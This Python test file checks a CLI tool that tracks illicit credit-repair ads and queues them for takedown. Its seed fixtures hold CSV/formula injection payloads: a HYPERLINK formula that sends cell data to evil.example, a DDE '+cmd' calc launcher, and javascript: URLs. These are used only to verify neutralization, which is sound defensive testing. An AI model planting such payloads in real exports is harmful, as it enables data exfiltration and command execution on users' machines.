"""The CLI as a Unix tool, run as real subprocesses on real SQLite files: data on stdout (TSV when piped,
a table on a terminal), messages on stderr, one exit-code table, read commands that never create a
database, validated values, idempotent review moves, and CSV/TSV cells a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, json_lines, run_cli

from grayscan.exitcodes import MEANINGS, Exit
from takedown import csvsafe, queue, store
from takedown.queue import enqueue

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我领取")征信修复，加V：zxxf2026'
HOSTILE_AUTHORS = ["@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]


def seed(db_path: Path) -> dict[str, int]:
    """Posts as the crawl pipeline stores them: hostile text and author names, queued hits; returns queue ids."""
    db = store.open_db(db_path)
    posts = [
        {"platform": "weibo", "post_id": "1", "text": FORMULA, "author_id": "a1", "author_name": HOSTILE_AUTHORS[0],
         "url": "https://m.weibo.cn/detail/1?from=search&x=<b>"},
        {"platform": "weibo", "post_id": "2", "text": "+停息挂账，个性化分期，联系 13800138000", "author_id": "a2",
         "author_name": HOSTILE_AUTHORS[1], "url": "javascript:alert(1)"},
        {"platform": "bilibili", "post_id": "3", "text": "-征信修复 包下款\t第二列\n第二行", "author_id": "a3",
         "author_name": HOSTILE_AUTHORS[2], "url": "https://www.bilibili.com/video/BV1"},
        {"platform": "bilibili", "post_id": "4", "text": "@代理退保 全额退", "author_id": "a4",
         "author_name": HOSTILE_AUTHORS[3], "url": "=HYPERLINK(\"http://evil.example\")"},
        {"platform": "weibo", "post_id": "5", "text": "今天天气不错", "author_id": "a5", "author_name": HOSTILE_AUTHORS[4],
         "url": "https://m.weibo.cn/detail/5"},
    ]
    store.upsert_posts(db, posts)
    store.upsert_accounts(db, [{"platform": p["platform"], "account_id": p["author_id"], "nickname": p["author_name"],
                                "homepage_url": f"https://m.weibo.cn/u/{p['author_id']}"} for p in posts])
    detections = [{"platform": p["platform"], "post_id": p["post_id"], "tier": "none" if p["post_id"] == "5" else
                   "level1", "score": 0.9, "reasons": ["=level1: 征信修复"], "matches": [],
                   "contacts": [{"type": "phone", "value": "+8613800138000"},
                                {"type": "wechat", "value": "=zxxf2026"}] if p["post_id"] in ("1", "2") else []}
                  for p in posts]
    store.save_detections(db, detections)
    enqueue(db, detections)
    ids = {row["post_id"]: row["id"] for row in queue.items(db)}
    db.close()
    return ids


@pytest.fixture
def seeded(db_path) -> dict[str, int]:
    return seed(db_path)


def run_to_file(tmp_path: Path, *args: str, stdin: str | None = None) -> tuple[subprocess.CompletedProcess, str]:
    """Run grayscan with stdout redirected to a real file (`grayscan ... > out`); returns (process, file text)."""
    out = tmp_path / "stdout.txt"
    with open(out, "w", encoding="utf-8") as sink:
        proc = subprocess.run([sys.executable, "-m", "grayscan", *args], stdout=sink, stderr=subprocess.PIPE,
                              input=stdin, text=True, encoding="utf-8", timeout=300)
    return proc, out.read_text(encoding="utf-8")


def tsv(text: str) -> list[dict[str, str]]:
    header, *lines = text.splitlines()
    return [dict(zip(header.split("\t"), line.split("\t"), strict=True)) for line in lines]


# ---- data on stdout -------------------------------------------------------------------------------


def test_read_commands_piped_to_a_file_hold_the_data(seeded, db_path, tmp_path):
    db = str(db_path)
    proc, text = run_to_file(tmp_path, "sql", "SELECT platform, count(*) AS n FROM posts GROUP BY 1 ORDER BY 1",
                             "--db", db)
    assert proc.returncode == 0, proc.stderr
    assert tsv(text) == [{"platform": "bilibili", "n": "2"}, {"platform": "weibo", "n": "3"}]

    proc, text = run_to_file(tmp_path, "queue", "list", "--db", db)
    assert proc.returncode == 0 and "4 shown" in proc.stderr
    rows = tsv(text)
    assert {r["id"] for r in rows} == {str(i) for i in seeded.values()}
    by_post = {r["url"]: r for r in rows}
    # One line per item: the text's tab and newline are escaped, not split.
    assert by_post["https://www.bilibili.com/video/BV1"]["text"] == "'-征信修复 包下款\\t第二列\\n第二行"

    proc, text = run_to_file(tmp_path, "queue", "show", str(seeded["1"]), "--db", db)
    fields = dict(line.split("\t", 1) for line in text.splitlines()[1:])
    assert proc.returncode == 0 and fields["post_id"] == "1" and fields["status"] == "detected"
    assert [(c["type"], c["value"]) for c in json.loads(fields["contacts"])] == [("phone", "+8613800138000"),
                                                                                ("wechat", "=zxxf2026")]
    proc, text = run_to_file(tmp_path, "queue", "show", str(seeded["1"]), "--db", db, "--format", "json")
    (detail,) = json.loads(text)
    assert detail["text"] == FORMULA and [e["to_status"] for e in detail["history"]] == ["detected"]

    proc, text = run_to_file(tmp_path, "search", "停息挂账", "--db", db)
    assert proc.returncode == 0 and [r["post_id"] for r in tsv(text)] == ["2"]
    assert "1 posts matching" in proc.stderr

    proc, text = run_to_file(tmp_path, "db", "stats", "--db", db)
    stats = {(r["section"], r["name"]): r["count"] for r in tsv(text)}
    assert stats[("tables", "posts")] == "5" and stats[("queue", "detected")] == "4"
    assert stats[("schema", "version")] == str(store.SCHEMA_VERSION)

    proc, text = run_to_file(tmp_path, "accounts", "match", "--phones", "-", "--db", db, stdin="13800138000\n139\n")
    assert proc.returncode == 0 and "1 of 2 numbers found" in proc.stderr
    assert [(r["e164"], r["found"], r["in_ads"]) for r in tsv(text)] == [("'+8613800138000", "True", "2"),
                                                                          ("", "False", "0")]

    proc, text = run_to_file(tmp_path, "accounts", "clusters", "--db", db, "--format", "jsonl")
    (cluster,) = json_lines(text)
    assert [tuple(a) for a in cluster["accounts"]] == [("weibo", "a1"), ("weibo", "a2")]

    proc, text = run_to_file(tmp_path, "lexicon", "scan", stdin='{"id": "p1", "text": "征 信 修 复，加V：zxxf2026"}\n')
    (scanned,) = json_lines(text)
    assert proc.returncode == 0 and scanned["id"] == "p1" and scanned["matches"][0]["term"] == "征信修复"


def test_each_format_on_request_and_a_table_on_a_terminal(seeded, db_path):
    sql = ("sql", "SELECT post_id, author_name FROM posts WHERE post_id IN ('1', '3') ORDER BY 1", "--db", str(db_path))
    assert json_lines(run_cli(*sql, "--format", "jsonl").stdout) == [{"post_id": "1", "author_name": "@SUM(1+1)"},
                                                                      {"post_id": "3", "author_name": "-2+3"}]
    assert json.loads(run_cli(*sql, "--format", "json").stdout) == [{"post_id": "1", "author_name": "@SUM(1+1)"},
                                                                     {"post_id": "3", "author_name": "-2+3"}]
    assert list(csv.reader(io.StringIO(run_cli(*sql, "--format", "csv").stdout))) == [
        ["post_id", "author_name"], ["1", "'@SUM(1+1)"], ["3", "'-2+3"]]
    proc = run_cli(*sql, "--json", "--format", "tsv")
    assert proc.returncode == Exit.USAGE and "disagree" in proc.stderr

    # stdout on a terminal: a table, and still nothing but data on it.
    leader, follower = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "grayscan", "queue", "list", "--db", str(db_path)],
                            stdout=follower, stderr=subprocess.PIPE, text=True, encoding="utf-8",
                            env={**os.environ, "COLUMNS": "120"})
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:
            break
        if not chunk:
            break
        chunks.append(chunk)
    stderr = proc.communicate(timeout=120)[1]
    os.close(leader)
    screen = re.sub(r"\x1b\[[0-9;]*m", "", b"".join(chunks).decode("utf-8"))  # colours off
    assert proc.returncode == 0, stderr
    assert "takedown queue — 4 shown" in screen and "┃ id" in screen and "@SUM(1+1)" in screen
    assert "4 shown; queue: detected 4" in stderr and "┃" not in stderr


# ---- databases: only crawl, import and demo create one ------------------------------------------------


READ_COMMANDS = [
    ("queue", "list"), ("queue", "show", "1"), ("queue", "accept", "1"), ("queue", "reject", "1"),
    ("queue", "submit", "1"), ("queue", "mark", "1", "--status", "removed"), ("queue", "export-labels", "-o", "-"),
    ("report",), ("recheck",), ("accounts", "export"), ("accounts", "clusters"),
    ("accounts", "match", "--phones", "-"), ("search", "征信"), ("sql", "SELECT 1"), ("db", "stats"),
]


@pytest.mark.parametrize("args", READ_COMMANDS, ids=lambda a: " ".join(a[:2]))
def test_a_read_command_on_a_missing_database_exits_2_and_creates_nothing(args, tmp_path):
    proc = run_cli(*args, "--db", str(tmp_path / "nodir" / "x.db"), cwd=tmp_path, input="")
    assert proc.returncode == Exit.USAGE, proc.stderr
    assert "no database at" in proc.stderr and "grayscan demo" in proc.stderr
    assert list(tmp_path.iterdir()) == []


def test_the_default_database_path_is_grayscan_db_or_the_environment(seeded, db_path, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    proc = run_cli("queue", "list", cwd=elsewhere)
    assert proc.returncode == Exit.USAGE and "no database at grayscan.db" in proc.stderr
    assert list(elsewhere.iterdir()) == []
    env = {**os.environ, "GRAYSCAN_DB": str(db_path), "PYTHONPATH": os.environ.get("PYTHONPATH", str(ROOT))}
    proc = subprocess.run([sys.executable, "-m", "grayscan", "db", "stats", "--format", "jsonl"], cwd=elsewhere,
                          env=env, capture_output=True, text=True, encoding="utf-8", timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert {"section": "tables", "name": "posts", "count": 5} in json_lines(proc.stdout)


# ---- one exit-code table ----------------------------------------------------------------------------------


def test_help_and_readme_print_the_exit_code_table():
    help_text = run_cli("--help").stdout
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for code, meaning in MEANINGS.items():
        assert f"{int(code)}  {meaning}" in help_text
        assert f"| {int(code)} | {meaning} |" in readme


def test_exit_codes_hold_for_every_commands_failures(seeded, db_path, tmp_path):
    db = ("--db", str(db_path))
    missing_item = [run_cli("queue", verb, "999", *db).returncode for verb in ("show", "accept", "reject", "submit")]
    assert missing_item == [Exit.USAGE] * 4
    # A refused move is reported, the others go on, and the run exits 1.
    proc = run_cli("queue", "mark", str(seeded["1"]), "--status", "removed", *db)
    assert proc.returncode == Exit.FAILED_RECORDS and "refused" in proc.stderr and "0 done, 0 unchanged, 1 refused" \
        in proc.stderr
    bad_line = '{"id": 1, "text": "征信修复"}\n{"id": 2, "text": "oops\n'
    for command in (("lexicon", "scan"), ("classify", "--lexicon-only")):
        proc = run_cli(*command, input=bad_line)
        assert proc.returncode == Exit.FAILED_RECORDS and "1 of 2 records failed" in proc.stderr
    bad_lexicon = tmp_path / "bad.toml"
    bad_lexicon.write_text('[[term]]\ncanonical = "x"\n', encoding="utf-8")
    assert run_cli("lexicon", "check", str(bad_lexicon)).returncode == Exit.FAILED_RECORDS
    usage = [
        run_cli("queue", "list", "--no-such-option", *db),
        run_cli("crawl", "nosuch", *db),
        run_cli("accounts", "export", "--hashed", *db),
        run_cli("sql", "DELETE FROM posts", *db),
        run_cli("search", "，！", *db),
        run_cli("classify", "--input", str(tmp_path / "missing.jsonl")),
        run_cli("eval", "--data", str(bad_lexicon)),
        run_cli("import", str(tmp_path / "missing.json"), *db),
        run_cli("queue", "accept", *db),
    ]
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        usage.append(run_cli("demo", "--serve", "--port", str(busy.getsockname()[1]), timeout=60))
    assert [p.returncode for p in usage] == [Exit.USAGE] * len(usage), [p.stderr[-300:] for p in usage]
    assert store.open_db(db_path)["posts"].count == 5


def test_invalid_platforms_and_dates_exit_2_naming_the_valid_choices(seeded, db_path):
    db = ("--db", str(db_path))
    for args in (("queue", "list", "--platform", "nosuch"), ("queue", "accept", "--platform", "nosuch"),
                 ("report", "--platform", "nosuch"), ("search", "x", "--platform", "nosuch"),
                 ("recheck", "--platform", "nosuch"), ("import", __file__, "--platform", "nosuch")):
        proc = run_cli(*args, *db)
        assert proc.returncode == Exit.USAGE, args
        assert "'nosuch' is not a platform; choose from" in proc.stderr and "weibo, bilibili" in proc.stderr, args
    proc = run_cli("crawl", "nosuch", *db)
    assert proc.returncode == Exit.USAGE and "'xhs'" in proc.stderr and "'generic'" in proc.stderr
    proc = run_cli("queue", "list", "--status", "gone", *db)
    assert proc.returncode == Exit.USAGE and "'rejected_by_platform'" in proc.stderr
    for args in (("queue", "list", "--since", "yesterdayish"), ("queue", "list", "--until", "2026-13-45"),
                 ("report", "--since", "7 days"), ("queue", "reject", "--since", "3y")):
        proc = run_cli(*args, *db)
        assert proc.returncode == Exit.USAGE, args
        assert "is not a date or time; use an ISO date (2026-11-20)" in proc.stderr and "7d, 12h, 2w" in proc.stderr
    listed = lambda *a: len(json_lines(run_cli("queue", "list", *db, "--format", "jsonl", *a).stdout))  # noqa: E731
    assert listed("--since", "2h") == listed("--since", "today") == listed("--until", "today") == 4
    assert listed("--since", "2999-01-01") == listed("--until", "2w") == listed("--until", "yesterday") == 0
    assert listed("--platform", "bilibili") == 2
    # A generic crawl stores posts under its YAML file's name: that name filters too, and is offered.
    db_ = store.open_db(db_path)
    store.upsert_posts(db_, [{"platform": "demo-forum", "post_id": "9", "text": "停息挂账找我们，加V：tx2026"}])
    enqueue(db_, [{"platform": "demo-forum", "post_id": "9", "tier": "level2", "score": 0.9, "reasons": []}])
    db_.close()
    assert listed("--platform", "demo-forum") == 1
    assert "demo-forum" in run_cli("queue", "list", "--platform", "nosuch", *db).stderr


# ---- review moves -----------------------------------------------------------------------------------------


def test_repeating_a_decision_is_a_no_op_that_says_so(seeded, db_path):
    db = ("--db", str(db_path))
    item = str(seeded["1"])
    assert run_cli("queue", "accept", item, *db).returncode == 0
    proc = run_cli("queue", "accept", item, *db)
    assert proc.returncode == 0, proc.stderr
    assert f"#{item} is already accepted: nothing changed" in proc.stderr and "0 done, 1 unchanged" in proc.stderr
    reject = [run_cli("queue", "reject", item, *db).returncode for _ in range(2)]
    assert reject == [0, 0]
    conn = store.open_db(db_path)
    assert [e["to_status"] for e in queue.history(conn, int(item))] == ["detected", "accepted", "rejected"]
    # One unknown id among known ones: bad input, and nothing changes.
    proc = run_cli("queue", "accept", str(seeded["2"]), "999", *db)
    assert proc.returncode == Exit.USAGE and "no queue item #999; nothing changed" in proc.stderr
    assert queue.item(conn, seeded["2"])["status"] == "detected"


# ---- reports and every CSV writer -----------------------------------------------------------------------


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows[1:] for cell in row]


def assert_spreadsheet_safe(rows: list[list[str]], *must_hold: str) -> None:
    cells = _cells(rows)
    assert cells and not [c for c in cells if c.startswith(csvsafe.FORMULA_STARTS)]
    for text in must_hold:
        assert any(c.startswith("'" + text) for c in cells), text


def test_every_csv_writer_neutralizes_formulas(seeded, db_path, tmp_path):
    db = ("--db", str(db_path))
    ids = [str(i) for i in seeded.values()]
    assert run_cli("queue", "accept", *ids, *db).returncode == 0
    proc = run_cli("report", *db, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    report_csvs = sorted((tmp_path / "grayscan-out").glob("report-*.csv"))
    assert len(report_csvs) == 2  # one batch per platform, in the one default folder
    rows = [row for path in report_csvs for row in csv.reader(open(path, encoding="utf-8-sig", newline=""))]
    assert_spreadsheet_safe(rows, "=HYPERLINK(", "@SUM(1+1)", "+cmd", "-2+3", "\t=1+1", "=level1", "+停息挂账")

    exported = tmp_path / "accounts.csv"
    assert run_cli("accounts", "export", "--format", "csv", "-o", str(exported), *db).returncode == 0
    rows = list(csv.reader(open(exported, encoding="utf-8", newline="")))
    assert_spreadsheet_safe(rows, "@SUM(1+1)", "+cmd", "-2+3", "\t=1+1")
    # Another member importing the list gets the names back as they were.
    other = tmp_path / "other.db"
    store.open_db(other).close()
    assert run_cli("accounts", "import", str(exported), "--source", "lender-a", "--db", str(other)).returncode == 0
    names = {r[0] for r in store.open_db(other).execute("SELECT nickname FROM shared_accounts")}
    assert names == set(HOSTILE_AUTHORS[:4])

    sql = ("sql", "SELECT author_name, text, url FROM posts ORDER BY post_id", *db)
    raw = subprocess.run([sys.executable, "-m", "grayscan", *sql, "--format", "csv"], capture_output=True).stdout
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))  # bytes as written: \r stays \r
    assert_spreadsheet_safe(rows, "=HYPERLINK(", "@SUM(1+1)", "\r=1+1")
    rows = [line.split("\t") for line in run_cli(*sql, "--format", "tsv").stdout.splitlines()]
    assert_spreadsheet_safe(rows, "=HYPERLINK(", "@SUM(1+1)", "\\r=1+1")
    rows = [line.split("\t") for line in run_cli("queue", "list", *db).stdout.splitlines()]
    assert_spreadsheet_safe(rows, "=HYPERLINK(", "@SUM(1+1)", "+cmd")


def test_report_json_reflects_the_batch_and_html_links_only_web_urls(seeded, db_path, tmp_path):
    db = ("--db", str(db_path))
    run_cli("queue", "accept", str(seeded["1"]), str(seeded["2"]), *db)
    proc = run_cli("report", "--platform", "weibo", *db, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    (report_json,) = (tmp_path / "grayscan-out").glob("report-*.json")
    document = json.loads(report_json.read_text(encoding="utf-8"))
    assert {(i["status"], i["batch_id"], i["channel"]) for i in document["items"]} == {
        ("submitted", document["batch_id"], document["channel"])}
    conn = store.open_db(db_path)
    stored = {(r["status"], r["batch_id"], r["submitted_at"]) for r in queue.items(conn, platform="weibo",
                                                                                  status="submitted")}
    assert stored == {(i["status"], i["batch_id"], i["submitted_at"]) for i in document["items"]}
    html = report_json.with_suffix(".html").read_text(encoding="utf-8")
    assert ('<a href="https://m.weibo.cn/detail/1?from=search&amp;x=&lt;b&gt;" rel="noopener noreferrer" '
            'target="_blank">') in html
    assert 'href="javascript' not in html and "<code>javascript:alert(1)</code>" in html


def test_classify_says_it_loads_the_model_and_errors_keep_the_record_id():
    proc = run_cli("classify", input='{"id": "a", "text": "专业征信修复，加V：zxxf2026"}\n{"id": "b7", "text": "oops\n'
                                     '{"id": 9, "txt": "no text"}\n')
    assert proc.returncode == Exit.FAILED_RECORDS
    assert proc.stderr.startswith("loading model") and "2 of 3 records failed" in proc.stderr
    good, broken, textless = json_lines(proc.stdout)
    assert good["id"] == "a" and good["tier"] == "level1"
    assert broken == {"id": "b7", "line": 2, "error": "malformed JSON: Unterminated string starting at column 22"}
    assert textless == {"id": 9, "line": 3, "error": "missing 'text' (a string)"}


def test_a_reader_that_stops_early_is_not_a_failure(seeded, db_path):
    # `grayscan sql ... | head -1`: the rows head did not want are not an error.
    proc = subprocess.Popen([sys.executable, "-m", "grayscan", "sql", "SELECT * FROM posts a, posts b, posts c",
                             "--db", str(db_path)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    first = proc.stdout.readline()
    proc.stdout.close()
    stderr = proc.stderr.read().decode("utf-8")
    assert proc.wait(timeout=120) == Exit.OK, stderr
    assert first.startswith(b"platform\tpost_id\t") and "Error" not in stderr


def test_values_dates_links_and_cells():
    from grayscan.options import WHEN
    from takedown.report import web_link

    assert WHEN.convert("2026-11-20", None, None) == "2026-11-20"
    assert WHEN.convert("2026-11-20T08:00+08:00", None, None) == "2026-11-20T00:00:00+00:00"
    assert WHEN.convert("2026-11-20T08:00", None, None) == "2026-11-20T08:00:00+00:00"
    assert WHEN.convert("12H", None, None) < WHEN.convert("30m", None, None) < WHEN.convert("today", None, None) + "T23"
    assert web_link(" HTTPS://m.weibo.cn/detail/1 ") == "HTTPS://m.weibo.cn/detail/1"
    assert [web_link(u) for u in ("javascript:alert(1)", "data:text/html,<b>", "http:/x", "//evil.example", "",
                                  None)] == [None] * 6
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=already quoted", "plain", "'plain"]:
        assert csvsafe.restore(csvsafe.neutralize(text)) == text
    assert csvsafe.neutralize(-1.5) == -1.5 and csvsafe.neutralize(None) is None
